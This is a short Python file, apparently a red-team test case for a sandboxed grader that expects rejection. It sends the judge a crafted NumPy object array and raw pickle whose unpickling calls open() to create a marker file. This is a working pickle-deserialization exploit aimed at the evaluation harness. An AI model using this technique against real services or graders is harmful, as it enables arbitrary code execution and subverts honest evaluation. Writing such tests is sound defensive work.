# verdict: invalid
"""Sends an array of objects whose unpickling makes a file."""
import os
import pickle
import struct

CLAIM, FAILED = 4, 5


def send(kind, case, *sections):
    """One frame of the jail's own protocol, straight to the judge."""
    body = struct.pack("<I", len(sections)) + b"".join(struct.pack("<I", len(s)) for s in sections) + b"".join(sections)
    os.write(3, struct.pack("<BII", kind, case, len(body)) + body)


def npy(header, data):
    header = header.ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + data


class Bomb:
    def __reduce__(self):
        return open, ("/tmp/redteam-unpickled", "w")


def solve(weights, hints):
    data = pickle.dumps([Bomb()] * 16)
    send(CLAIM, 0, b'{"__array__": 0}', npy("{'descr': '|O', 'fortran_order': False, 'shape': (16,), }", data))
    send(CLAIM, 0, data)
    os._exit(0)
